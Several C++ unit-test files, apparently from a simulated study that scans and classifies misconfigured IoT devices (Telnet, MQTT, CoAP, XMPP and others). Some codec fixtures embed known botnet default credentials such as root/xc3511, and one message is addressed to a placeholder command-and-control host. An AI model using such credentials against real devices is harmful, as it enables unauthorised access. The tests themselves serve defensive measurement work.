  core::Study distributed(dist_config);
  distributed.setup_internet();
  distributed.run_scan();
  distributed.run_datasets();

  EXPECT_EQ(serialize(distributed.scan_db()), reference);
  EXPECT_EQ(core::report_table4_exposed(distributed), table4);
  EXPECT_EQ(core::report_table5_misconfigured(distributed), table5);
  EXPECT_EQ(distributed.metrics_prometheus(), metrics_prometheus);
  EXPECT_EQ(distributed.metrics_csv(), metrics_csv);
  EXPECT_EQ(distributed.trace_json(), trace_json);
  EXPECT_EQ(distributed.attack_chains(), attack_chains);
  EXPECT_EQ(distributed.findings().size(), serial.findings().size());
  EXPECT_EQ(distributed.scan_dates(), serial.scan_dates());
  // The crash drill actually fired: at least one attempt died by SIGKILL
  // (worker-eof) and was requeued.
  bool saw_eof = false;
  for (const dist::RetryLedgerEntry& entry : ledger) {
    if (entry.reason == "worker-eof") saw_eof = true;
  }
  EXPECT_TRUE(saw_eof) << "crash drill produced no requeue";
}

#endif  // OFH_DIST_NO_FORK

// --------------------------------------------------- scenario directive

TEST(DistScenario, ScanWorkersDirectiveParsesAndValidates) {
  core::ScenarioError error;
  const auto scenario = core::parse_scenario_text(
      "scenario distributed knob\nscan-workers 3\nreport summary\n", "<test>",
      &error);
  ASSERT_TRUE(scenario.has_value()) << error.to_string();
  EXPECT_EQ(scenario->config.scan_workers, 3u);

  // Out-of-range worker counts die as typed parse errors, never as a
  // partially-applied config.
  const auto rejected = core::parse_scenario_text(
      "scenario too many\nscan-workers 300\nreport summary\n", "<test>",
      &error);
  EXPECT_FALSE(rejected.has_value());
}

}  // namespace
}  // namespace ofh
