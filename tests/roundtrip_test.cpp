// The central measurement invariant, as a parameterized property test:
// for every misconfiguration class, a device planted with it — and only
// with it — must come back from the scan+classification pipeline labelled
// with exactly that class; a correctly-configured device must come back
// clean. This is the claim a real measurement study can never verify.
#include <gtest/gtest.h>

#include "classify/misconfig_rules.h"
#include "devices/device.h"
#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/ftp.h"
#include "proto/http.h"
#include "proto/modbus.h"
#include "proto/mqtt.h"
#include "proto/s7.h"
#include "proto/smb.h"
#include "proto/ssdp.h"
#include "proto/ssh.h"
#include "proto/telnet.h"
#include "proto/xmpp.h"
#include "scanner/scanner.h"
#include "test_helpers.h"

namespace ofh {
namespace {

using devices::Misconfig;
using test::SimTest;
using util::Ipv4Addr;

struct RoundTripCase {
  proto::Protocol protocol;
  Misconfig planted;
  // The label the classifier should produce (normally == planted).
  Misconfig expected;
  bool expect_finding = true;
};

class MisconfigRoundTrip : public ::testing::TestWithParam<RoundTripCase> {
 protected:
  MisconfigRoundTrip() : fabric_(sim_, 7) {
    fabric_.set_latency(sim::msec(5), sim::msec(3));
  }

  sim::Simulation sim_;
  net::Fabric fabric_;
};

TEST_P(MisconfigRoundTrip, ScanThenClassifyRecoversPlantedClass) {
  const auto& param = GetParam();

  devices::DeviceSpec spec;
  spec.address = Ipv4Addr(10, 20, 0, 5);
  spec.primary = param.protocol;
  spec.misconfig = param.planted;
  devices::Device device(std::move(spec));
  device.attach(fabric_);

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric_);
  scanner::ScanConfig config;
  config.protocol = param.protocol;
  config.targets = {*util::Cidr::parse("10.20.0.0/28")};
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && sim_.step()) {
  }
  ASSERT_TRUE(done);

  const auto findings = classify::classify_all(db);
  if (!param.expect_finding) {
    EXPECT_TRUE(findings.empty())
        << "clean device misclassified as "
        << (findings.empty()
                ? ""
                : devices::misconfig_name(findings[0].misconfig));
    // The device must still have been *seen* (exposed, Table 4).
    EXPECT_EQ(db.unique_hosts(param.protocol), 1u);
    return;
  }
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].misconfig, param.expected)
      << "planted " << devices::misconfig_name(param.planted) << ", got "
      << devices::misconfig_name(findings[0].misconfig);
  EXPECT_EQ(findings[0].host, Ipv4Addr(10, 20, 0, 5));
}

INSTANTIATE_TEST_SUITE_P(
    AllClasses, MisconfigRoundTrip,
    ::testing::Values(
        RoundTripCase{proto::Protocol::kTelnet, Misconfig::kTelnetNoAuth,
                      Misconfig::kTelnetNoAuth},
        RoundTripCase{proto::Protocol::kTelnet, Misconfig::kTelnetNoAuthRoot,
                      Misconfig::kTelnetNoAuthRoot},
        RoundTripCase{proto::Protocol::kMqtt, Misconfig::kMqttNoAuth,
                      Misconfig::kMqttNoAuth},
        RoundTripCase{proto::Protocol::kAmqp, Misconfig::kAmqpNoAuth,
                      Misconfig::kAmqpNoAuth},
        RoundTripCase{proto::Protocol::kXmpp, Misconfig::kXmppAnonymous,
                      Misconfig::kXmppAnonymous},
        RoundTripCase{proto::Protocol::kXmpp, Misconfig::kXmppPlaintext,
                      Misconfig::kXmppPlaintext},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kCoapNoAuth,
                      Misconfig::kCoapNoAuth},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kCoapAdminAccess,
                      Misconfig::kCoapAdminAccess},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kCoapReflector,
                      Misconfig::kCoapReflector},
        RoundTripCase{proto::Protocol::kUpnp, Misconfig::kUpnpReflector,
                      Misconfig::kUpnpReflector},
        // Clean devices: exposed but never flagged.
        RoundTripCase{proto::Protocol::kTelnet, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kMqtt, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kAmqp, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kXmpp, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kUpnp, Misconfig::kNone,
                      Misconfig::kNone, false}));

// The same invariant under moderate packet loss: whatever the scan *does*
// record must still classify correctly (no label corruption, only missed
// hosts).
class LossyRoundTrip : public ::testing::TestWithParam<double> {};

TEST_P(LossyRoundTrip, FindingsRemainLabelCorrectUnderLoss) {
  sim::Simulation sim;
  net::Fabric fabric(sim, 11);
  fabric.set_loss_rate(GetParam());

  std::vector<std::unique_ptr<devices::Device>> hosts;
  for (int i = 1; i <= 30; ++i) {
    devices::DeviceSpec spec;
    spec.address = Ipv4Addr(10, 21, 0, static_cast<std::uint8_t>(i));
    spec.primary = proto::Protocol::kTelnet;
    spec.misconfig = i % 2 == 0 ? Misconfig::kTelnetNoAuthRoot
                                : Misconfig::kTelnetNoAuth;
    hosts.push_back(std::make_unique<devices::Device>(std::move(spec)));
    hosts.back()->attach(fabric);
  }

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric);
  scanner::ScanConfig config;
  config.protocol = proto::Protocol::kTelnet;
  config.targets = {*util::Cidr::parse("10.21.0.0/24")};
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && sim.step()) {
  }

  for (const auto& finding : classify::classify_all(db)) {
    const bool even = finding.host.octet(3) % 2 == 0;
    EXPECT_EQ(finding.misconfig, even ? Misconfig::kTelnetNoAuthRoot
                                      : Misconfig::kTelnetNoAuth);
  }
}

INSTANTIATE_TEST_SUITE_P(LossRates, LossyRoundTrip,
                         ::testing::Values(0.0, 0.1, 0.25));

// ------------------------------------------------------------------ codecs
// Encode→decode identity for every wire codec: what a well-formed encoder
// emits, the decoder must recover byte-for-byte. The adversarial harness
// (proto_adversarial_test.cpp) covers the hostile direction; this covers
// the cooperative one for all 14 codec entry points.

TEST(CodecRoundTrip, TelnetNegotiations) {
  const std::vector<proto::telnet::Negotiation> negotiations = {
      {proto::telnet::kWill, proto::telnet::kOptEcho},
      {proto::telnet::kDont, proto::telnet::kOptNaws},
      {proto::telnet::kDo, proto::telnet::kOptSga}};
  const auto decoded =
      proto::telnet::decode(proto::telnet::encode_negotiation(negotiations));
  ASSERT_EQ(decoded.negotiations.size(), negotiations.size());
  for (std::size_t i = 0; i < negotiations.size(); ++i) {
    EXPECT_EQ(decoded.negotiations[i].verb, negotiations[i].verb);
    EXPECT_EQ(decoded.negotiations[i].option, negotiations[i].option);
  }
  EXPECT_TRUE(decoded.text.empty());
}

TEST(CodecRoundTrip, MqttConnect) {
  proto::mqtt::ConnectPacket packet;
  packet.client_id = "camera-7";
  packet.username = "root";
  packet.password = "vizxv";
  packet.keep_alive = 120;
  packet.clean_session = true;
  const auto encoded = proto::mqtt::encode_connect(packet);
  const auto header = proto::mqtt::decode_fixed_header(encoded);
  ASSERT_TRUE(header);
  ASSERT_EQ(header->type, proto::mqtt::PacketType::kConnect);
  ASSERT_EQ(encoded.size(), header->header_size + header->remaining_length);
  const auto decoded = proto::mqtt::decode_connect(
      std::span(encoded).subspan(header->header_size));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->client_id, packet.client_id);
  EXPECT_EQ(decoded->username, packet.username);
  EXPECT_EQ(decoded->password, packet.password);
  EXPECT_EQ(decoded->keep_alive, packet.keep_alive);
  EXPECT_EQ(decoded->clean_session, packet.clean_session);
}

TEST(CodecRoundTrip, MqttPublishSubscribeConnack) {
  proto::mqtt::PublishPacket publish;
  publish.topic = "factory/line2/rpm";
  publish.payload = util::to_bytes("1444");
  publish.retain = true;
  auto encoded = proto::mqtt::encode_publish(publish);
  auto header = proto::mqtt::decode_fixed_header(encoded);
  ASSERT_TRUE(header);
  const auto decoded_publish = proto::mqtt::decode_publish(
      std::span(encoded).subspan(header->header_size), header->flags);
  ASSERT_TRUE(decoded_publish);
  EXPECT_EQ(decoded_publish->topic, publish.topic);
  EXPECT_EQ(decoded_publish->payload, publish.payload);
  EXPECT_EQ(decoded_publish->retain, publish.retain);

  proto::mqtt::SubscribePacket subscribe;
  subscribe.packet_id = 99;
  subscribe.topic_filters = {"#", "home/+/light"};
  encoded = proto::mqtt::encode_subscribe(subscribe);
  header = proto::mqtt::decode_fixed_header(encoded);
  ASSERT_TRUE(header);
  const auto decoded_subscribe = proto::mqtt::decode_subscribe(
      std::span(encoded).subspan(header->header_size));
  ASSERT_TRUE(decoded_subscribe);
  EXPECT_EQ(decoded_subscribe->packet_id, subscribe.packet_id);
  EXPECT_EQ(decoded_subscribe->topic_filters, subscribe.topic_filters);

  encoded = proto::mqtt::encode_connack(
      proto::mqtt::ConnectCode::kNotAuthorized, false);
  header = proto::mqtt::decode_fixed_header(encoded);
  ASSERT_TRUE(header);
  const auto code = proto::mqtt::decode_connack(
      std::span(encoded).subspan(header->header_size));
  ASSERT_TRUE(code);
  EXPECT_EQ(*code, proto::mqtt::ConnectCode::kNotAuthorized);
}

TEST(CodecRoundTrip, CoapMessage) {
  proto::coap::Message message;
  message.type = proto::coap::Type::kConfirmable;
  message.code = proto::coap::Code::kGet;
  message.message_id = 0x7a7a;
  message.token = {0xde, 0xad, 0xbe, 0xef};
  message.set_uri_path("/.well-known/core");
  message.options.push_back(
      proto::coap::Option{proto::coap::kOptionContentFormat, {40}});
  message.payload = util::to_bytes("payload");
  const auto decoded = proto::coap::decode(proto::coap::encode(message));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->type, message.type);
  EXPECT_EQ(decoded->code, message.code);
  EXPECT_EQ(decoded->message_id, message.message_id);
  EXPECT_EQ(decoded->token, message.token);
  EXPECT_EQ(decoded->uri_path(), "/.well-known/core");
  EXPECT_EQ(decoded->payload, message.payload);
}

TEST(CodecRoundTrip, AmqpFrameAndMethods) {
  proto::amqp::StartMethod start;
  start.product = "RabbitMQ";
  start.version = "2.8.4";
  start.platform = "Erlang/OTP";
  start.mechanisms = {"PLAIN", "AMQPLAIN", "ANONYMOUS"};
  proto::amqp::Frame frame;
  frame.type = proto::amqp::FrameType::kMethod;
  frame.channel = 3;
  frame.payload = proto::amqp::encode_start(start);

  std::size_t consumed = 0;
  const auto encoded = proto::amqp::encode_frame(frame);
  const auto decoded = proto::amqp::decode_frame(encoded, &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(consumed, encoded.size());
  EXPECT_EQ(decoded->type, frame.type);
  EXPECT_EQ(decoded->channel, frame.channel);
  const auto decoded_start = proto::amqp::decode_start(decoded->payload);
  ASSERT_TRUE(decoded_start);
  EXPECT_EQ(decoded_start->product, start.product);
  EXPECT_EQ(decoded_start->version, start.version);
  EXPECT_EQ(decoded_start->platform, start.platform);
  EXPECT_EQ(decoded_start->mechanisms, start.mechanisms);

  const proto::amqp::StartOkMethod start_ok{"PLAIN", "guest", "guest"};
  const auto decoded_ok =
      proto::amqp::decode_start_ok(proto::amqp::encode_start_ok(start_ok));
  ASSERT_TRUE(decoded_ok);
  EXPECT_EQ(decoded_ok->mechanism, start_ok.mechanism);
  EXPECT_EQ(decoded_ok->user, start_ok.user);
  EXPECT_EQ(decoded_ok->pass, start_ok.pass);
}

TEST(CodecRoundTrip, XmppStanzas) {
  const auto auth = proto::xmpp::sasl_auth("PLAIN", "admin:admin");
  EXPECT_EQ(proto::xmpp::extract_attribute(auth, "auth", "mechanism"),
            "PLAIN");
  EXPECT_EQ(proto::xmpp::extract_element(auth, "auth"), "admin:admin");

  const auto features =
      proto::xmpp::stream_features({"SCRAM-SHA-1", "PLAIN"}, false);
  const auto mechanisms =
      proto::xmpp::extract_all_elements(features, "mechanism");
  ASSERT_EQ(mechanisms.size(), 2u);
  EXPECT_EQ(mechanisms[0], "SCRAM-SHA-1");
  EXPECT_EQ(mechanisms[1], "PLAIN");

  const auto stanza = proto::xmpp::message_stanza("bot@c2.example", "ping");
  EXPECT_EQ(proto::xmpp::extract_attribute(stanza, "message", "to"),
            "bot@c2.example");
  EXPECT_EQ(proto::xmpp::extract_element(stanza, "body"), "ping");
}

TEST(CodecRoundTrip, SsdpMSearchAndResponse) {
  proto::ssdp::MSearch msearch;
  msearch.search_target = "urn:dial-multiscreen-org:service:dial:1";
  msearch.mx = 3;
  const auto decoded_search =
      proto::ssdp::decode_msearch(proto::ssdp::encode_msearch(msearch));
  ASSERT_TRUE(decoded_search);
  EXPECT_EQ(decoded_search->search_target, msearch.search_target);
  EXPECT_EQ(decoded_search->mx, msearch.mx);

  proto::ssdp::SearchResponse response;
  response.st = "upnp:rootdevice";
  response.usn = "uuid:2f40-11::upnp:rootdevice";
  response.server = "Linux/3.14 UPnP/1.0 miniupnpd/2.0";
  response.location = "http://192.168.1.1:5000/rootDesc.xml";
  response.extra["Manufacturer"] = "Generic";
  const auto decoded_response =
      proto::ssdp::decode_response(proto::ssdp::encode_response(response));
  ASSERT_TRUE(decoded_response);
  EXPECT_EQ(decoded_response->st, response.st);
  EXPECT_EQ(decoded_response->usn, response.usn);
  EXPECT_EQ(decoded_response->server, response.server);
  EXPECT_EQ(decoded_response->location, response.location);
  EXPECT_EQ(decoded_response->extra.at("manufacturer"), "Generic");
}

TEST(CodecRoundTrip, HttpRequestAndResponse) {
  proto::http::Request request;
  request.method = "POST";
  request.path = "/login";
  request.headers["host"] = "10.0.0.2";
  request.body = "user=admin&pass=admin";
  const auto decoded_request = proto::http::decode_request(
      util::to_string(proto::http::encode_request(request)));
  ASSERT_TRUE(decoded_request);
  EXPECT_EQ(decoded_request->method, request.method);
  EXPECT_EQ(decoded_request->path, request.path);
  EXPECT_EQ(decoded_request->headers.at("host"), "10.0.0.2");
  EXPECT_EQ(decoded_request->body, request.body);

  proto::http::Response response;
  response.status = 401;
  response.reason = "Unauthorized";
  response.server = "lighttpd/1.4.35";
  response.body = "<html>denied</html>";
  const auto decoded_response = proto::http::decode_response(
      util::to_string(proto::http::encode_response(response)));
  ASSERT_TRUE(decoded_response);
  EXPECT_EQ(decoded_response->status, response.status);
  EXPECT_EQ(decoded_response->server, response.server);
  EXPECT_EQ(decoded_response->body, response.body);
}

TEST(CodecRoundTrip, FtpCommand) {
  const proto::ftp::Command command{"stor", "update.bin"};
  const auto decoded = proto::ftp::decode_command(
      util::to_string(proto::ftp::encode_command(command)));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->verb, command.verb);
  EXPECT_EQ(decoded->arg, command.arg);
  // Verbs are case-normalized on decode.
  const auto upper = proto::ftp::decode_command("USER anonymous");
  ASSERT_TRUE(upper);
  EXPECT_EQ(upper->verb, "user");
  EXPECT_EQ(upper->arg, "anonymous");
}

TEST(CodecRoundTrip, SshAuthRecord) {
  const auto decoded = proto::ssh::decode_auth(
      util::to_string(proto::ssh::encode_auth("root", "xc3511")));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->user, "root");
  EXPECT_EQ(decoded->pass, "xc3511");
}

TEST(CodecRoundTrip, SmbFrame) {
  proto::smb::SmbFrame frame;
  frame.command = proto::smb::Command::kSessionSetup;
  util::ByteWriter payload;
  payload.str8("admin").str8("password1");
  frame.payload = payload.take();

  std::size_t consumed = 0;
  const auto encoded = proto::smb::encode_frame(frame);
  const auto decoded = proto::smb::decode_frame(encoded, &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(consumed, encoded.size());
  EXPECT_EQ(decoded->command, frame.command);
  EXPECT_EQ(decoded->payload, frame.payload);
}

TEST(CodecRoundTrip, ModbusRequest) {
  proto::modbus::Request request;
  request.transaction_id = 0x0102;
  request.unit_id = 0xb1;
  request.function = 0x10;
  util::ByteWriter data;
  data.u16(0x0010).u16(2).u8(4).u16(0xaaaa).u16(0x5555);
  request.data = data.take();

  std::size_t consumed = 0;
  const auto encoded = proto::modbus::encode_request(request);
  const auto decoded = proto::modbus::decode_request(encoded, &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(consumed, encoded.size());
  EXPECT_EQ(decoded->transaction_id, request.transaction_id);
  EXPECT_EQ(decoded->unit_id, request.unit_id);
  EXPECT_EQ(decoded->function, request.function);
  EXPECT_EQ(decoded->data, request.data);
}

TEST(CodecRoundTrip, S7Pdu) {
  const auto payload = util::to_bytes("module-info");
  std::size_t consumed = 0;
  const auto encoded = proto::s7::encode_pdu(proto::s7::PduType::kUserData,
                                             0x0666, payload);
  const auto decoded = proto::s7::decode(encoded, &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(consumed, encoded.size());
  EXPECT_FALSE(decoded->is_cotp_connect);
  EXPECT_EQ(decoded->pdu_type, proto::s7::PduType::kUserData);
  EXPECT_EQ(decoded->pdu_ref, 0x0666);
  EXPECT_EQ(decoded->payload, payload);

  std::size_t cotp_consumed = 0;
  const auto cotp = proto::s7::decode(proto::s7::encode_cotp_connect(),
                                      &cotp_consumed);
  ASSERT_TRUE(cotp);
  EXPECT_TRUE(cotp->is_cotp_connect);
  EXPECT_EQ(cotp_consumed, proto::s7::encode_cotp_connect().size());
}

}  // namespace
}  // namespace ofh
