// The central measurement invariant, as a parameterized property test:
// for every misconfiguration class, a device planted with it — and only
// with it — must come back from the scan+classification pipeline labelled
// with exactly that class; a correctly-configured device must come back
// clean. This is the claim a real measurement study can never verify.
#include <gtest/gtest.h>

#include "classify/misconfig_rules.h"
#include "devices/device.h"
#include "scanner/scanner.h"
#include "test_helpers.h"

namespace ofh {
namespace {

using devices::Misconfig;
using test::SimTest;
using util::Ipv4Addr;

struct RoundTripCase {
  proto::Protocol protocol;
  Misconfig planted;
  // The label the classifier should produce (normally == planted).
  Misconfig expected;
  bool expect_finding = true;
};

class MisconfigRoundTrip : public ::testing::TestWithParam<RoundTripCase> {
 protected:
  MisconfigRoundTrip() : fabric_(sim_, 7) {
    fabric_.set_latency(sim::msec(5), sim::msec(3));
  }

  sim::Simulation sim_;
  net::Fabric fabric_;
};

TEST_P(MisconfigRoundTrip, ScanThenClassifyRecoversPlantedClass) {
  const auto& param = GetParam();

  devices::DeviceSpec spec;
  spec.address = Ipv4Addr(10, 20, 0, 5);
  spec.primary = param.protocol;
  spec.misconfig = param.planted;
  devices::Device device(std::move(spec));
  device.attach(fabric_);

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric_);
  scanner::ScanConfig config;
  config.protocol = param.protocol;
  config.targets = {*util::Cidr::parse("10.20.0.0/28")};
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && sim_.step()) {
  }
  ASSERT_TRUE(done);

  const auto findings = classify::classify_all(db);
  if (!param.expect_finding) {
    EXPECT_TRUE(findings.empty())
        << "clean device misclassified as "
        << (findings.empty()
                ? ""
                : devices::misconfig_name(findings[0].misconfig));
    // The device must still have been *seen* (exposed, Table 4).
    EXPECT_EQ(db.unique_hosts(param.protocol), 1u);
    return;
  }
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].misconfig, param.expected)
      << "planted " << devices::misconfig_name(param.planted) << ", got "
      << devices::misconfig_name(findings[0].misconfig);
  EXPECT_EQ(findings[0].host, Ipv4Addr(10, 20, 0, 5));
}

INSTANTIATE_TEST_SUITE_P(
    AllClasses, MisconfigRoundTrip,
    ::testing::Values(
        RoundTripCase{proto::Protocol::kTelnet, Misconfig::kTelnetNoAuth,
                      Misconfig::kTelnetNoAuth},
        RoundTripCase{proto::Protocol::kTelnet, Misconfig::kTelnetNoAuthRoot,
                      Misconfig::kTelnetNoAuthRoot},
        RoundTripCase{proto::Protocol::kMqtt, Misconfig::kMqttNoAuth,
                      Misconfig::kMqttNoAuth},
        RoundTripCase{proto::Protocol::kAmqp, Misconfig::kAmqpNoAuth,
                      Misconfig::kAmqpNoAuth},
        RoundTripCase{proto::Protocol::kXmpp, Misconfig::kXmppAnonymous,
                      Misconfig::kXmppAnonymous},
        RoundTripCase{proto::Protocol::kXmpp, Misconfig::kXmppPlaintext,
                      Misconfig::kXmppPlaintext},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kCoapNoAuth,
                      Misconfig::kCoapNoAuth},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kCoapAdminAccess,
                      Misconfig::kCoapAdminAccess},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kCoapReflector,
                      Misconfig::kCoapReflector},
        RoundTripCase{proto::Protocol::kUpnp, Misconfig::kUpnpReflector,
                      Misconfig::kUpnpReflector},
        // Clean devices: exposed but never flagged.
        RoundTripCase{proto::Protocol::kTelnet, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kMqtt, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kAmqp, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kXmpp, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kCoap, Misconfig::kNone,
                      Misconfig::kNone, false},
        RoundTripCase{proto::Protocol::kUpnp, Misconfig::kNone,
                      Misconfig::kNone, false}));

// The same invariant under moderate packet loss: whatever the scan *does*
// record must still classify correctly (no label corruption, only missed
// hosts).
class LossyRoundTrip : public ::testing::TestWithParam<double> {};

TEST_P(LossyRoundTrip, FindingsRemainLabelCorrectUnderLoss) {
  sim::Simulation sim;
  net::Fabric fabric(sim, 11);
  fabric.set_loss_rate(GetParam());

  std::vector<std::unique_ptr<devices::Device>> hosts;
  for (int i = 1; i <= 30; ++i) {
    devices::DeviceSpec spec;
    spec.address = Ipv4Addr(10, 21, 0, static_cast<std::uint8_t>(i));
    spec.primary = proto::Protocol::kTelnet;
    spec.misconfig = i % 2 == 0 ? Misconfig::kTelnetNoAuthRoot
                                : Misconfig::kTelnetNoAuth;
    hosts.push_back(std::make_unique<devices::Device>(std::move(spec)));
    hosts.back()->attach(fabric);
  }

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric);
  scanner::ScanConfig config;
  config.protocol = proto::Protocol::kTelnet;
  config.targets = {*util::Cidr::parse("10.21.0.0/24")};
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && sim.step()) {
  }

  for (const auto& finding : classify::classify_all(db)) {
    const bool even = finding.host.octet(3) % 2 == 0;
    EXPECT_EQ(finding.misconfig, even ? Misconfig::kTelnetNoAuthRoot
                                      : Misconfig::kTelnetNoAuth);
  }
}

INSTANTIATE_TEST_SUITE_P(LossRates, LossyRoundTrip,
                         ::testing::Values(0.0, 0.1, 0.25));

}  // namespace
}  // namespace ofh
