// Lazy-population tests: the struct-of-arrays columns and the
// LazyHostSource contract. The load-bearing guard here is the drift check:
// Population::classify() *predicts* what a device's stacks would do with a
// packet, and that prediction must agree with the services
// Device::on_attached() actually installs — for every protocol, misconfig
// and port — or the lazy world silently diverges from the eager one.
#include <gtest/gtest.h>

#include <vector>

#include "devices/device.h"
#include "devices/population.h"
#include "test_helpers.h"

namespace ofh::devices {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;
using Verdict = net::LazyHostSource::Verdict;

net::Packet tcp_syn(Ipv4Addr dst, std::uint16_t port) {
  net::Packet packet;
  packet.src = Ipv4Addr(9, 9, 9, 9);
  packet.dst = dst;
  packet.src_port = 40'000;
  packet.dst_port = port;
  packet.transport = net::Transport::kTcp;
  packet.tcp_flags = net::TcpFlags::kSyn;
  return packet;
}

net::Packet udp_probe(Ipv4Addr dst, std::uint16_t port) {
  net::Packet packet;
  packet.src = Ipv4Addr(9, 9, 9, 9);
  packet.dst = dst;
  packet.src_port = 40'000;
  packet.dst_port = port;
  packet.transport = net::Transport::kUdp;
  return packet;
}

class PopulationLazy : public SimTest {
 protected:
  PopulationLazy() {
    PopulationSpec spec;
    spec.seed = 7;
    spec.scale = 1.0 / 8'192;
    population_ = std::make_unique<Population>(spec);
    population_->build();
    population_->attach_all(fabric_);
  }

  std::unique_ptr<Population> population_;
};

TEST_F(PopulationLazy, ClassifyPredictionMatchesMaterializedStacks) {
  // Every port any installed service could claim, plus closed controls.
  const std::uint16_t tcp_ports[] = {23,    2323, 80,   443,  1883,
                                     5672,  5222, 5269, 5683, 1900};
  const std::uint16_t udp_ports[] = {23, 1883, 5683, 1900, 4711};

  for (std::uint64_t i = 0; i < population_->size(); ++i) {
    const Ipv4Addr addr = population_->address_at(i);
    if (*population_->index_of(addr) != i) continue;  // duplicate address

    // Predict first: classify() only answers for unmaterialized rows.
    std::vector<Verdict> tcp_verdicts, udp_verdicts;
    for (const auto port : tcp_ports) {
      tcp_verdicts.push_back(population_->classify(tcp_syn(addr, port)));
    }
    for (const auto port : udp_ports) {
      udp_verdicts.push_back(population_->classify(udp_probe(addr, port)));
    }

    // Then materialize the real device and compare against its stacks.
    Device* device = population_->device_at(i);
    ASSERT_NE(device, nullptr);
    for (std::size_t p = 0; p < std::size(tcp_ports); ++p) {
      const bool listening = device->tcp().listening(tcp_ports[p]);
      EXPECT_EQ(tcp_verdicts[p],
                listening ? Verdict::kMaterialize : Verdict::kReset)
          << addr.to_string() << " tcp port " << tcp_ports[p];
    }
    for (std::size_t p = 0; p < std::size(udp_ports); ++p) {
      const bool bound = device->udp().bound(udp_ports[p]);
      EXPECT_EQ(udp_verdicts[p],
                bound ? Verdict::kMaterialize : Verdict::kConsume)
          << addr.to_string() << " udp port " << udp_ports[p];
    }
  }
}

TEST_F(PopulationLazy, NonSynTcpSegmentsAreConsumedWithoutMaterializing) {
  const Ipv4Addr addr = population_->address_at(0);
  auto packet = tcp_syn(addr, 23);
  packet.tcp_flags = net::TcpFlags::kAck;
  EXPECT_EQ(population_->classify(packet), Verdict::kConsume);
  packet.tcp_flags = net::TcpFlags::kSyn | net::TcpFlags::kAck;
  EXPECT_EQ(population_->classify(packet), Verdict::kConsume);
  packet.tcp_flags = net::TcpFlags::kRst;
  EXPECT_EQ(population_->classify(packet), Verdict::kConsume);
}

TEST_F(PopulationLazy, UnownedAddressIsNotClaimed) {
  EXPECT_EQ(population_->classify(tcp_syn(Ipv4Addr(203, 0, 113, 1), 23)),
            Verdict::kNotOwned);
}

TEST_F(PopulationLazy, ClosedPortSynIsRefusedWithoutMaterializing) {
  const auto before = population_->materialized_count();
  // No device listens on 4444; the fabric answers the SYN with a RST on
  // the row's behalf and the Device object is never built.
  PlainHost client(Ipv4Addr(9, 8, 7, 6));
  client.attach(fabric_);
  bool called = false;
  net::TcpConnection* result = nullptr;
  client.tcp().connect(population_->address_at(0), 4444,
                       [&](net::TcpConnection* conn) {
                         called = true;
                         result = conn;
                       });
  run();
  EXPECT_TRUE(called);
  EXPECT_EQ(result, nullptr);
  EXPECT_EQ(population_->materialized_count(), before);
}

TEST_F(PopulationLazy, OpenPortSynMaterializesAndCompletesHandshake) {
  // Find a canonical Telnet row; its predicted listener port depends on the
  // address (device.cpp: every 16th device listens on 2323 instead of 23).
  std::uint64_t row = population_->size();
  for (std::uint64_t i = 0; i < population_->size(); ++i) {
    if (population_->primary_at(i) != proto::Protocol::kTelnet) continue;
    if (population_->materialized_at(i) != nullptr) continue;
    if (*population_->index_of(population_->address_at(i)) != i) continue;
    row = i;
    break;
  }
  ASSERT_LT(row, population_->size());
  const Ipv4Addr addr = population_->address_at(row);
  const std::uint16_t port = addr.value() % 16 == 0 ? 2323 : 23;

  const auto before = population_->materialized_count();
  PlainHost client(Ipv4Addr(9, 8, 7, 5));
  client.attach(fabric_);
  bool connected = false;
  client.tcp().connect(addr, port, [&](net::TcpConnection* conn) {
    connected = conn != nullptr;
  });
  run();
  EXPECT_TRUE(connected);
  EXPECT_EQ(population_->materialized_count(), before + 1);
  EXPECT_NE(population_->materialized_at(row), nullptr);
}

TEST_F(PopulationLazy, DetachedMaterializedRowStopsAnswering) {
  Device* device = population_->device_at(3);
  ASSERT_TRUE(device->attached());
  device->detach();
  EXPECT_EQ(population_->classify(tcp_syn(population_->address_at(3), 23)),
            Verdict::kNotOwned);
}

